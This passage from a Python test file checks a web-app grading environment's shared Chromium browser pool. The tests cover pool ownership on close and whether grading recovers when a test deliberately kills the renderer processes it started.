assert d.fork().pool is own  # a fork grades where the env it came from does
d.close()
assert own.browser_pids(), "a pool the user gave was closed by the env"
own.close()
print("ok")
"""


def test_the_last_env_to_close_closes_the_shared_browser():
    # A fresh interpreter: in this one, the module's env holds the shared pool throughout.
    run = subprocess.run([sys.executable, "-c", SHARED_POOL_USERS], capture_output=True, text=True, timeout=240)
    assert run.returncode == 0 and run.stdout.strip() == "ok", run.stderr[-3000:]


class KillsTheRenderersOnce(BrowserPool):
    """A pool whose renderers are killed from outside while the grading after ``armed`` runs."""

    armed = False

    def run_gpu_checked(self, fn, timeout_s, alone=False):
        if self.armed:
            self.armed = False
            threading.Thread(target=self._kill_renderers, daemon=True).start()
        return super().run_gpu_checked(fn, timeout_s, alone)

    def _kill_renderers(self):
        killed, deadline = 0, time.monotonic() + 5
        while not killed and time.monotonic() < deadline:
            for pid, kind in self.chromium_processes().items():
                if kind == "renderer":
                    os.kill(pid, signal.SIGKILL)
                    killed += 1
            time.sleep(0.01)
        self.killed = killed


def test_a_renderer_killed_from_outside_costs_a_second_grading_not_a_flag():
    pool = KillsTheRenderersOnce()
    env = WebAppEnv(tasks=[TASK], pool=pool, load_timeout_s=3, item_timeout_s=4)
    try:
        assert grade(env, GOLD)[0] == 1.0
        pool.armed = True
        reward, info = grade(env, GOLD)
        assert pool.killed >= 1
        assert reward == 1.0 and info["audit"]["flags"] == [], info["feedback"]
    finally:
        env.close()
        pool.close()
